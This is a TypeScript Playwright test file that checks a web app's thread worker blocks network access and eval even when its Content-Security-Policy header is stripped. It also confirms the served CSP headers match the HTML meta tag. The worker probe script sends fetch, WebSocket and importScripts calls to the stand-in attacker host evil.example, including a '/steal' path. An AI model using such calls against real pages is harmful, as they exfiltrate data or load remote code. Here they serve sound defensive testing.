// The worker parses every untrusted byte; it must have no network and no eval, whatever the host
// sends. The page is served here with its security headers stripped, so only the worker's own
// lock-down stands between dump text and the network.
import { readFile } from 'node:fs/promises';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseURL, launchBrowser } from './support/browser.ts';
import { waitForCount } from './explorer-support.ts';
import { HEADER_POLICY, META_POLICY, headersFile } from '../../scripts/csp-policy.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser.close();
});

/**
 * Runs in the worker as a plain script. Through DevTools, not Playwright's `worker.evaluate`:
 * Playwright runs its own code with the worker's `eval`, which the lock-down (rightly) refuses.
 */
const PROBE = `(async () => {
  const attempt = async (fn) => {
    try { await fn(); return 'ran'; }
    catch (e) { return e instanceof Error ? e.constructor.name + ': ' + e.message : 'threw'; }
  };
  return JSON.stringify({
    fetch: await attempt(() => fetch('https://evil.example/steal')),
    xhr: await attempt(() => new XMLHttpRequest()),
    ws: await attempt(() => new WebSocket('wss://evil.example/')),
    importScripts: await attempt(() => importScripts('https://evil.example/x.js')),
    eval: await attempt(() => (0, eval)('1 + 1')),
    Function: await attempt(() => new Function('return 1')()),
    viaConstructor: await attempt(() => Object.getPrototypeOf(async () => {}).constructor('return 1')()),
  });
})()`;

interface Attached {
  readonly sessionId: string;
  readonly targetInfo: { readonly type: string };
}

/** Evaluates `expression` in the page's (only) dedicated worker and returns its string result. */
async function evaluateInWorker(b: Browser, expression: string): Promise<string> {
  const cdp = await b.newBrowserCDPSession();
  const { targetInfos } = (await cdp.send('Target.getTargets')) as unknown as {
    targetInfos: { targetId: string; type: string }[];
  };
  const target = targetInfos.find((t) => t.type === 'worker');
  if (target === undefined) throw new Error('no worker target');
  const { sessionId } = (await cdp.send('Target.attachToTarget', {
    targetId: target.targetId,
    flatten: false,
  })) as unknown as Attached;
  const reply = new Promise<string>((resolve, reject) => {
    cdp.on('Target.receivedMessageFromTarget', (event) => {
      const message = JSON.parse(event.message) as {
        id?: number;
        result?: { result?: { value?: unknown } };
        error?: unknown;
      };
      if (message.id !== 1) return;
      if (message.error !== undefined) reject(new Error(JSON.stringify(message.error)));
      else resolve(String(message.result?.result?.value));
    });
  });
  await cdp.send('Target.sendMessageToTarget', {
    sessionId,
    message: JSON.stringify({
      id: 1,
      method: 'Runtime.evaluate',
      params: { expression, awaitPromise: true, returnByValue: true },
    }),
  });
  const value = await reply;
  await cdp.detach();
  return value;
}

describe('the thread worker lock-down', () => {
  it('should make fetch, XMLHttpRequest, WebSocket, importScripts, eval and Function fail inside the worker even with no CSP header', async () => {
    const context = await browser.newContext();
    const sent: string[] = [];
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (!url.startsWith(baseURL())) {
        sent.push(url);
        await route.abort();
        return;
      }
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers['content-security-policy'];
      await route.fulfill({ response, headers });
    });
    const page = await context.newPage();
    await page.goto(baseURL());
    await waitForCount(page);
    expect(page.workers()).toHaveLength(1);
    const outcomes = JSON.parse(await evaluateInWorker(browser, PROBE)) as Record<string, string>;
    expect(Object.keys(outcomes)).toHaveLength(7);
    for (const [name, outcome] of Object.entries(outcomes)) {
      expect(`${name} → ${outcome}`).toMatch(
        / → TypeError: .* is disabled in the thread worker\.$/,
      );
    }
    expect(sent).toEqual([]);
    // The lock-down did not stop the worker's real work: a search still answers.
    await page.goto(`${baseURL()}/?q=putin`);
    await page.locator('article[id^="c-"] mark').first().waitFor();
    await context.close();
  });

  it('should serve the policy as headers with frame-ancestors none, matching index.html and _headers', async () => {
    const response = await fetch(baseURL());
    expect(response.headers.get('content-security-policy')).toBe(HEADER_POLICY);
    expect(HEADER_POLICY).toContain("frame-ancestors 'none'");
    expect(HEADER_POLICY).toContain("connect-src 'none'");
    expect(HEADER_POLICY).toContain("worker-src 'self'");
    const html = await readFile('index.html', 'utf8');
    const meta = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html);
    expect(meta?.[1]).toBe(META_POLICY);
    expect(await readFile('public/_headers', 'utf8')).toBe(headersFile());
  });
});
